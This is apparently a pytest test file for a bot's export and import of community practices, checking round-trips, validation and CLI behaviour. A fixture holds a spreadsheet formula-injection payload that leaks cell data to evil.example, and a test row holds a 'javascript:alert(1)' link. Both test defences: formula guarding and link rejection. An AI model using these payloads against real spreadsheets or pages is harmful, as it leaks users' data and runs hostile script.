"""Export to CSV, JSON and Markdown; import CSV and JSON with a report, every accepted row or none.

The promise: what is exported comes back. Demo data, a practice rejected and submitted again under the same
title, reviews and translations, exported as CSV and as JSON, imported into an empty database (the cities and
people they name come along) and exported again, give the same bytes.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from alembic.script import ScriptDirectory
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text
from sqlalchemy.engine import Engine, make_url
from sqlmodel import func, select
from typer.testing import CliRunner

from bot import db
from bot.cli import app
from bot.db import session_scope
from bot.demo import load_demo
from bot.messages import Identity
from bot.models import City, Member, Role
from bot.models.practices import Practice, PracticeStatus, ReviewAction
from bot.practices_io import (
    CSV_COLUMNS,
    CSV_HEADER,
    FORMULA_STARTS,
    ImportRefused,
    export_practices,
    guard_cell,
    import_practices,
    unguard_cell,
)
from bot.services import Services
from bot.services.practices import PracticeService
from tests.conftest import POSTGRES_URL
from tests.practices.conftest import add_city, add_member, practice

#: The columns a file made by hand gives (the export's first format): no identity, people or history.
HAND_HEADER = "title,city,themes,summary,description,results,contact,links,language,status"


def count(services: Services) -> int:
    with session_scope(services.engine) as session:
        return int(session.exec(select(func.count()).select_from(Practice)).one())


def write_csv(path: Path, rows: list[list[str]], *, header: str = HAND_HEADER, bom: bool = False) -> Path:
    buffer = io.StringIO()
    buffer.write(header + "\r\n")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + buffer.getvalue().encode("utf-8"))
    return path


def row(title: str, city: str = "Lisbon", **fields: str) -> list[str]:
    values = {
        "title": title, "city": city, "themes": "anti-rumours;education", "summary": "A short summary.",
        "description": "What was done.", "results": "", "contact": "", "links": "", "language": "pt",
        "status": "",
    } | fields
    return list(values.values())


@pytest.fixture
def filled(services: Services) -> Services:
    lisbon = add_city(services, "Lisbon", "PT", "pt")
    odesa = add_city(services, "Odesa", "UA", "uk")
    boss = add_member(services, "boss", role=Role.icc_team)
    first = services.practices.submit(author=boss, data=practice(
        lisbon, title="Agentes anti-rumor", summary="Voluntários, \"factos\", vírgulas, e aspas.",
        description="Linha 1\nLinha 2; com ponto e vírgula", results="Menos rumores.", contact="ana@example.org",
        links="https://example.org/a\nhttps://example.org/b", language="pt", themes=["anti-rumours", "education"]))
    services.practices.submit(author=boss, data=practice(
        odesa, title="Міський форум", summary="Форум 🙂", description="Опис", language="uk", themes=["youth"]))
    assert first.id is not None
    for action in (ReviewAction.approve, ReviewAction.publish):
        services.practices.review(reviewer=boss, practice_id=first.id, action=action)
    services.practices.add_translation(practice_id=first.id, language="en", title="Anti-rumour agents",
                                       summary="Volunteers.")
    return services


def test_round_trip_through_csv(filled: Services, tmp_path: Path) -> None:
    out = io.StringIO(newline="")
    assert export_practices(filled.engine, "csv", out) == 2
    path = tmp_path / "practices.csv"
    path.write_text(out.getvalue(), encoding="utf-8", newline="")
    assert out.getvalue().splitlines()[0] == CSV_HEADER
    # Into the same database: every practice is already there, and left as it is.
    report = import_practices(filled.engine, path)
    assert (report.imported, report.rejected) == (0, []) and [r.row for r in report.already] == [2, 3]
    assert count(filled) == 2
    # Into a database with the same cities and no practices: everything comes back, identical.
    with session_scope(filled.engine) as session:
        for table in ("practicereview", "practicetranslation", "practicetheme", "practice"):
            session.execute(text(f"DELETE FROM {table}"))
        filled.practices.index.clear(session)
    progress: list[tuple[int, int]] = []
    report = import_practices(filled.engine, path, progress=lambda done, total: progress.append((done, total)))
    assert (report.imported, report.rejected) == (2, [])
    assert progress[0] == (0, 2) and progress[-1] == (2, 2)
    again = io.StringIO(newline="")
    export_practices(filled.engine, "csv", again)
    assert again.getvalue() == out.getvalue()
    assert filled.practices.search(words="rumores").hits[0].title == "Agentes anti-rumor"
    assert filled.practices.search(words="rumour", language="en").hits[0].title == "Anti-rumour agents"


def test_export_formats_and_status_filter(filled: Services) -> None:
    out = io.StringIO()
    assert export_practices(filled.engine, "json", out) == 2
    records = json.loads(out.getvalue())
    assert records[0]["links"] == ["https://example.org/a", "https://example.org/b"]
    assert list(records[0]) == list(CSV_COLUMNS)
    translation = records[0]["translations"]["en"]
    assert (translation["title"], translation["summary"], translation["machine"]) == ("Anti-rumour agents",
                                                                                       "Volunteers.", True)
    assert [review["action"] for review in records[0]["reviews"]] == ["approve", "publish"]
    assert records[0]["reviews"][0]["reviewer"] == "console:local:boss" == records[0]["author"]
    assert records[0]["country"] == "PT" and uuid.UUID(records[0]["uid"])
    assert records[1]["summary"] == "Форум 🙂" and records[1]["status"] == "submitted"
    out = io.StringIO()
    assert export_practices(filled.engine, "markdown", out, status=PracticeStatus.published) == 1
    markdown = out.getvalue()
    assert "Agentes anti-rumor\n" in markdown
    assert "*Lisbon (PT) · anti-rumours, education · pt · published*" in markdown
    assert "Міський форум" not in markdown and "- <https://example.org/b>" in markdown
    empty = io.StringIO()
    assert export_practices(filled.engine, "json", empty, status="rejected") == 0
    assert json.loads(empty.getvalue()) == []


def test_a_utf8_file_with_bom_imports(services: Services, tmp_path: Path) -> None:
    add_city(services, "Lisbon")
    add_city(services, "Düdelingen", "LU", "lb,fr,de")
    path = write_csv(tmp_path / "bom.csv", [row("Um"), row("Zwei", city="dudelingen", language="de")], bom=True)
    report = import_practices(services.engine, path)
    assert (report.imported, report.rejected) == (2, [])
    published = services.practices.search(words="", status=PracticeStatus.published).hits
    assert {hit.city for hit in published} == {"Lisbon", "Düdelingen"}


def test_a_wrong_header_refuses_the_whole_file(services: Services, tmp_path: Path) -> None:
    add_city(services, "Lisbon")
    for header in ("name,city,themes", HAND_HEADER + ",colour", HAND_HEADER + ",title"):
        path = write_csv(tmp_path / "bad.csv", [row("Um")], header=header)
        with pytest.raises(ImportRefused) as caught:
            import_practices(services.engine, path)
        message = str(caught.value)
        assert "title, city, themes, summary, description, language" in message and header in message
    assert count(services) == 0
    (tmp_path / "empty.csv").write_bytes(b"")
    with pytest.raises(ImportRefused) as caught:
        import_practices(services.engine, tmp_path / "empty.csv")
    assert CSV_HEADER in str(caught.value)


def test_bad_encoding_refuses_the_whole_file(services: Services, tmp_path: Path) -> None:
    add_city(services, "Lisbon")
    path = tmp_path / "latin1.csv"
    path.write_bytes((HAND_HEADER + "\r\nAção,Lisbon,youth,s,d,,,,pt,\r\n").encode("latin-1"))
    with pytest.raises(ImportRefused) as caught:
        import_practices(services.engine, path)
    assert "not UTF-8" in str(caught.value)
    assert count(services) == 0


def test_malformed_csv_refuses_the_whole_file(services: Services, tmp_path: Path) -> None:
    path = tmp_path / "quote.csv"
    path.write_text(HAND_HEADER + '\r\n"unclosed,Lisbon\r\nx"y,z\r\n', encoding="utf-8")
    with pytest.raises(ImportRefused):
        import_practices(services.engine, path)
    nul = tmp_path / "nul.csv"
    nul.write_bytes((HAND_HEADER + "\r\nA\x00B,Lisbon,youth,s,d,,,,pt,\r\n").encode())
    add_city(services, "Lisbon")
    report = import_practices(services.engine, nul)  # NUL bytes are stripped like in a form
    assert report.imported == 1


def test_invalid_and_duplicated_rows_are_reported_and_nothing_written_unless_partial(
    services: Services, tmp_path: Path
) -> None:
    add_city(services, "Lisbon")
    add_city(services, "Oslo", "NO", "nb")
    rows = [
        row("Good one"),                                   # 2
        row(""),                                           # 3 empty title
        row("Unknown city", city="Atlantis"),              # 4
        row("Bad theme", themes="gardening"),              # 5
        row("Long", description="x" * 100_000),            # 6
        row("Good one"),                                   # 7 the same content as row 2: the same practice
        row("Good one", city="Oslo", language="nb"),       # 8 same title, other city: fine
        row("Bad link", links="javascript:alert(1)"),      # 9
        row("Bad status", status="archived"),              # 10
        row("Short", "Lisbon", language="xx"),             # 11
        ["too", "few"],                                    # 12
        [""] * 10,                                         # 13 blank line: skipped silently
        row("Rejected one", status="rejected"),            # 14
        row("Good one", summary="Another summary."),       # 15 same title and city, other content: fine
        row("\u200b\u2060"),                               # 16 a title that shows nothing
    ]
    path = write_csv(tmp_path / "mixed.csv", rows)
    report = import_practices(services.engine, path)
    reasons = {r.row: r.reason for r in report.rejected}
    assert sorted(reasons) == [3, 4, 5, 6, 7, 9, 10, 11, 12, 16]
    assert (report.accepted, report.written, report.imported) == (4, False, 0)
    assert count(services) == 0  # one rejected row: nothing written
    assert "title cannot be empty" in reasons[3] and "title cannot be empty" in reasons[16]
    assert "Atlantis" in reasons[4]
    assert "gardening" in reasons[5]
    assert "100000 characters" in reasons[6]
    assert "Duplicate of row 2" in reasons[7]
    assert "web link" in reasons[9]
    assert "archived" in reasons[10]
    assert "2 values instead of 10" in reasons[12]

    report = import_practices(services.engine, path, partial=True)
    assert (report.imported, len(report.rejected)) == (4, 10)
    assert count(services) == 4
    again = import_practices(services.engine, path, partial=True)  # the same file again: nothing twice
    assert again.imported == 0 and [r.row for r in again.already] == [2, 8, 14, 15] and count(services) == 4
    french = import_practices(services.engine, write_csv(tmp_path / "again.csv", [row("Good one"), row("")]),
                              locale="fr")
    assert [r.row for r in french.already] == [2]
    assert french.rejected[0].reason == "Le titre ne peut pas être vide."


def test_nothing_is_written_when_something_unexpected_fails(services: Services, tmp_path: Path) -> None:
    add_city(services, "Lisbon")
    path = write_csv(tmp_path / "five.csv", [row(f"Practice {n}") for n in range(5)])

    def explode(done: int, total: int) -> None:
        if done == 3:
            raise OSError("disk full")

    with pytest.raises(OSError):
        import_practices(services.engine, path, progress=explode)
    assert count(services) == 0
    assert services.practices.search(words="practice", status=None).hits == []
    assert import_practices(services.engine, path).imported == 5


FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
    "summary": "+1 for the welcome desk",
    "description": "-5% of rumours in a year\n=SUM(A1:A9) inside a cell is harmless",
    "results": "'=1+1 was typed with its apostrophe",  # an apostrophe that is text, before a formula sign
    "contact": "@ana_lisbon",
}


def test_csv_cells_that_a_spreadsheet_would_run_are_guarded_and_import_back(
    services: Services, tmp_path: Path
) -> None:
    lisbon = add_city(services, "Lisbon", "PT", "pt")
    boss = add_member(services, "boss", role=Role.icc_team)
    services.practices.submit(author=boss, data=practice(lisbon, themes=["youth"], **FORMULAS))
    services.practices.submit(author=boss, data=practice(lisbon, title="'Quoted' is only text", themes=["youth"]))
    out = io.StringIO(newline="")
    assert export_practices(services.engine, "csv", out) == 2
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    first, second = (dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:])
    assert first["title"] == "'" + FORMULAS["title"]
    assert first["summary"] == "'+1 for the welcome desk" and first["contact"] == "'@ana_lisbon"
    assert first["description"].startswith("'-5% of rumours")
    assert first["results"] == "''=1+1 was typed with its apostrophe"
    assert second["title"] == "'Quoted' is only text"  # no formula sign after it: not a guard
    # Into a database with the same city and no practices: the exact texts come back, and export alike.
    path = tmp_path / "formulas.csv"
    path.write_text(out.getvalue(), encoding="utf-8", newline="")
    with session_scope(services.engine) as session:
        for table in ("practicereview", "practicetranslation", "practicetheme", "practice"):
            session.execute(text(f"DELETE FROM {table}"))
        services.practices.index.clear(session)
    report = import_practices(services.engine, path)
    assert (report.imported, report.rejected) == (2, [])
    with session_scope(services.engine) as session:
        stored = {p.title: p for p in session.exec(select(Practice))}
    formula = stored[FORMULAS["title"]]
    assert {field: getattr(formula, field) for field in FORMULAS} == FORMULAS
    assert "'Quoted' is only text" in stored
    again = io.StringIO(newline="")
    export_practices(services.engine, "csv", again)
    assert again.getvalue() == out.getvalue()


def test_a_guard_put_by_another_tool_is_removed_too(services: Services, tmp_path: Path) -> None:
    add_city(services, "Lisbon")
    path = write_csv(tmp_path / "guarded.csv", [row("'@home: housing first", contact="'+351 21 000 0000")])
    assert import_practices(services.engine, path).imported == 1
    with session_scope(services.engine) as session:
        imported = session.exec(select(Practice)).one()
    assert (imported.title, imported.contact) == ("@home: housing first", "+351 21 000 0000")


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " ", "é"]), max_size=8)
       | st.text(max_size=20))
def test_guarding_a_cell_is_undone_exactly(value: str) -> None:
    guarded = guard_cell(value)
    assert not guarded.startswith(FORMULA_STARTS)
    assert unguard_cell(guarded) == value
    assert guarded in (value, "'" + value)


# ---------------------------------------------------------------- what is exported comes back


@pytest.fixture
def empty_database(tmp_path: Path) -> Iterator[Callable[[], Engine]]:
    """Makes new, empty, migrated databases (SQLite files, or PostgreSQL schemas when DATABASE_URL says so)."""
    engines: list[Engine] = []
    schemas: list[str] = []
    admin = db.make_engine(POSTGRES_URL) if POSTGRES_URL.startswith("postgresql") else None

    def make() -> Engine:
        if admin is None:
            url = f"sqlite:///{(tmp_path / f'empty-{len(engines)}.sqlite3').as_posix()}"
        else:
            schema = f"t_{uuid.uuid4().hex[:12]}"
            with admin.begin() as connection:
                connection.execute(text(f'CREATE SCHEMA "{schema}"'))
            schemas.append(schema)
            url = make_url(POSTGRES_URL).update_query_dict({"options": f"-csearch_path={schema}"}).render_as_string(
                hide_password=False)
        engine = db.make_engine(url)
        db.upgrade(engine)
        engines.append(engine)
        return engine

    yield make
    for engine in engines:
        engine.dispose()
    if admin is not None:
        with admin.begin() as connection:
            for schema in schemas:
                connection.execute(text(f'DROP SCHEMA IF EXISTS "{schema}" CASCADE'))
        admin.dispose()


@pytest.fixture
def network(services: Services) -> Services:
    """The demo, and a Lisbon practice rejected and submitted again under the same title, then published."""
    load_demo(services)
    ana = services.members.find(Identity("console", "local", "ana"))
    ivana = services.members.find(Identity("console", "local", "ivana"))
    assert ana is not None and ivana is not None
    lisbon = services.cities.resolve("Lisbon")
    first = services.practices.submit(author=ana, data=practice(
        lisbon, title="Mediadores interculturais", summary="Primeira versão.", language="pt",
        description="Mediadores nos serviços municipais.", themes=["anti-rumours"]))
    assert first.id is not None
    services.practices.review(reviewer=ivana, practice_id=first.id, action=ReviewAction.reject,
                              reason="Faltam os resultados; envie de novo com eles, por favor.")
    second = services.practices.submit(author=ana, data=practice(
        lisbon, title="Mediadores interculturais", summary="Segunda versão, com resultados.", language="pt",
        description="Mediadores nos serviços municipais.\nFormação de 40 horas.", results="=40 mediadores",
        contact="@ana", links="https://example.org/mediadores", themes=["anti-rumours", "participation"]))
    assert second.id is not None
    for action in (ReviewAction.approve, ReviewAction.publish):
        services.practices.review(reviewer=ivana, practice_id=second.id, action=action)
    services.practices.add_translation(practice_id=second.id, language="en", title="Intercultural mediators",
                                       summary="Second version, with results.")
    services.practices.add_translation(practice_id=second.id, language="uk", title="Міжкультурні медіатори",
                                       summary="Друга версія.", machine=False)
    return services


def exported(engine: Engine, fmt: str) -> str:
    out = io.StringIO(newline="")
    export_practices(engine, fmt, out)  # type: ignore[arg-type]
    return out.getvalue()


def test_what_is_exported_comes_back_identical_through_csv_and_json(
    network: Services, empty_database: Callable[[], Engine], tmp_path: Path
) -> None:
    original = {fmt: exported(network.engine, fmt) for fmt in ("csv", "json")}
    records = json.loads(original["json"])
    again = [r for r in records if r["title"] == "Mediadores interculturais"]
    assert len(records) == 7 and len(again) == 2 and again[0]["uid"] != again[1]["uid"]
    assert again[0]["status"] == "rejected" and again[0]["reject_reason"].startswith("Faltam os resultados")
    assert again[0]["reviews"][0]["reviewer"] == "console:local:ivana" and again[0]["author_name"] == "Ana"
    assert set(again[1]["translations"]) == {"en", "uk"}
    for fmt, content in original.items():
        path = tmp_path / f"practices.{fmt}"
        path.write_text(content, encoding="utf-8", newline="")
        empty = empty_database()
        report = import_practices(empty, path)
        assert (report.imported, report.rejected, report.already) == (7, [], [])
        for other in ("csv", "json"):  # byte for byte, in both formats
            assert exported(empty, other) == original[other], (fmt, other)
        with session_scope(empty) as session:
            cities = {(c.name, c.country) for c in session.exec(select(City))}
            people = {(m.user_id, m.display_name) for m in session.exec(select(Member))}
        assert cities == {("Barcelona", "ES"), ("Lisbon", "PT"), ("Stuttgart", "DE"), ("Montréal", "CA"),
                          ("Odesa", "UA")}  # the cities the practices name came along
        assert people == {("ana", "Ana"), ("ivana", "Ivana")}
        search = PracticeService(empty).search(words="mediators", language="en").hits
        assert [hit.title for hit in search] == ["Intercultural mediators"]  # the translations are searched
        assert import_practices(empty, path).already and count_in(empty) == 7  # and nothing comes twice


def count_in(engine: Engine) -> int:
    with session_scope(engine) as session:
        return int(session.exec(select(func.count()).select_from(Practice)).one())


def test_an_older_json_export_and_a_hand_made_json_file_import(services: Services, tmp_path: Path) -> None:
    add_city(services, "Lisbon")
    older = [  # what the export wrote before practices had an identifier
        {"id": 12, "title": "Um", "city": "Lisbon", "country": "PT", "themes": ["youth"], "summary": "s",
         "description": "d", "results": "", "contact": "", "links": ["https://example.org"], "language": "pt",
         "status": "published", "created_at": "2025-03-01T10:00:00+00:00",
         "translations": {"en": {"title": "One", "summary": "s"}}},
        {"title": "Dois", "city": "lisbon", "themes": "youth;sport", "summary": "s", "description": "d",
         "language": "pt"},
        {"title": "Três", "city": "Lisbon", "themes": ["youth"], "summary": "s", "description": "d",
         "language": "pt", "colour": "blue"},
        ["not", "an", "object"],
        {"title": 3, "city": "Lisbon", "themes": ["youth"], "summary": "s", "description": "d", "language": "pt"},
        {"title": "Cinco", "city": "Lisbon", "themes": ["youth"], "summary": "s", "description": "d",
         "language": "pt", "reviews": [{"action": "archive"}]},
        {"title": "Seis", "city": "Lisbon", "themes": ["youth"], "summary": "s", "description": "d",
         "language": "pt", "translations": {"pt": {"title": "Seis", "summary": "s"}}},
        {"title": "Sete", "city": "Lisbon", "themes": ["youth"], "summary": "s", "description": "d",
         "language": "pt", "author": "ana", "uid": "not-a-uuid"},
    ]
    path = tmp_path / "older.json"
    path.write_text(json.dumps(older, ensure_ascii=False), encoding="utf-8")
    report = import_practices(services.engine, path, partial=True)
    reasons = {r.row: r.reason for r in report.rejected}
    assert report.imported == 2 and sorted(reasons) == [3, 4, 5, 6, 7, 8]
    assert "“colour” is not a field" in reasons[3]
    assert "not a practice" in reasons[4]
    assert "“title” must be text" in reasons[5]
    assert "“archive” is not a review decision" in reasons[6]
    assert "the practice's own language" in reasons[7]
    assert "“ana” in author is not a person" in reasons[8]
    records = json.loads(exported(services.engine, "json"))
    assert records[0]["created_at"] == "2025-03-01T10:00:00.000000+00:00"
    assert records[0]["translations"]["en"]["machine"] is True and records[1]["themes"] == ["sport", "youth"]
    for bad, message in ((b"{}", "must be a list"), (b"[{]", "not valid JSON near line 1")):
        (tmp_path / "bad.json").write_bytes(bad)
        with pytest.raises(ImportRefused, match=message):
            import_practices(services.engine, tmp_path / "bad.json")


def test_a_city_comes_along_only_with_its_country(services: Services, tmp_path: Path) -> None:
    header = HAND_HEADER + ",country"
    path = write_csv(tmp_path / "cities.csv", [row("Um", city="Tromsø", country="NO"),
                                               row("Dois", city="Atlantis", country=""),
                                               row("Três", city="Utopia", country="XX"),
                                               row("Quatro", city="TROMSØ", country="NO")], header=header)
    report = import_practices(services.engine, path, partial=True)
    reasons = {r.row: r.reason for r in report.rejected}
    assert report.imported == 2 and sorted(reasons) == [3, 4]
    assert reasons[3] == "There is no ICC city called “Atlantis”, and no country to add it with."
    assert "“XX” is not a country code" in reasons[4]
    assert [(c.name, c.country) for c in services.cities.all()] == [("Tromsø", "NO")]


def invoke(database_url: str, *args: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, ["practices", *args], env={"DATABASE_URL": database_url, "LOG_LEVEL": "INFO"})
    return result.exit_code, result.output


def test_the_import_command_says_by_its_exit_status_whether_everything_came_in(
    services: Services, database_url: str, tmp_path: Path
) -> None:
    add_city(services, "Lisbon")
    good = write_csv(tmp_path / "good.csv", [row("Um"), row("Dois")])
    mixed = write_csv(tmp_path / "mixed.csv", [row("Três"), row("Quatro", themes="gardening")])
    assert invoke(database_url, "import", str(mixed)) == (1, invoke(database_url, "import", str(mixed))[1])
    code, output = invoke(database_url, "import", str(mixed))
    assert code == 1 and "0 imported, 1 rejected." in output and "gardening" in output
    assert "import the 1 accepted rows with --partial" in output and count(services) == 0
    code, output = invoke(database_url, "import", "--partial", str(mixed))
    assert code == 0 and "1 imported, 1 rejected." in output and count(services) == 1
    code, output = invoke(database_url, "import", str(good))
    assert code == 0 and "2 imported, 0 rejected." in output
    code, output = invoke(database_url, "import", str(good))  # again: nothing twice, and that is fine
    assert code == 0 and "0 imported, 0 rejected, 2 already in the database" in output and count(services) == 3
    code, output = invoke(database_url, "export", "--format", "json", "--output", str(tmp_path / "all.json"))
    assert code == 0 and "3 practices exported." in output
    code, output = invoke(database_url, "import", str(tmp_path / "all.json"))
    assert code == 0 and "3 already in the database" in output
    (tmp_path / "latin1.csv").write_bytes((HAND_HEADER + "\r\nAção,Lisbon,youth,s,d,,,,pt,\r\n").encode("latin-1"))
    code, output = invoke(database_url, "import", str(tmp_path / "latin1.csv"))
    assert code == 1 and "not UTF-8" in output
    code, output = invoke(database_url, "import", str(tmp_path / "missing.csv"))
    assert code == 2 and "no such file" in output


@pytest.mark.fresh_database  # starts before a migration
def test_the_migration_gives_every_practice_already_there_its_own_uid(database_url: str) -> None:
    engine = db.make_engine(database_url)
    script = ScriptDirectory.from_config(db.alembic_config(engine))
    uid_revision = next(rev for rev in script.walk_revisions() if rev.revision.endswith("_practice_uid"))
    db.upgrade(engine, str(uid_revision.down_revision))  # the schema just before practices had a uid
    with engine.begin() as connection:
        connection.execute(text("INSERT INTO city (id, name, country, languages, time_zone, profile) "
                                "VALUES (1, 'Lisboa', 'PT', 'pt', 'Europe/Lisbon', '')"))
        for number in (1, 2):
            connection.execute(text(
                "INSERT INTO practice (id, title, city_id, summary, description, results, contact, links, "
                f"language, status, reject_reason) VALUES ({number}, 'Mediadores', 1, 's', 'd', '', '', '', 'pt', "
                "'rejected', '')"))
        connection.execute(text("INSERT INTO practicetheme (practice_id, theme) VALUES (1, 'youth')"))
    db.upgrade(engine)
    with session_scope(engine) as session:
        uids = [p.uid for p in session.exec(select(Practice).order_by(Practice.id))]
        themes = session.execute(text("SELECT count(*) FROM practicetheme")).scalar_one()
    assert len(set(uids)) == 2 and all(uuid.UUID(uid) for uid in uids) and themes == 1
    engine.dispose()
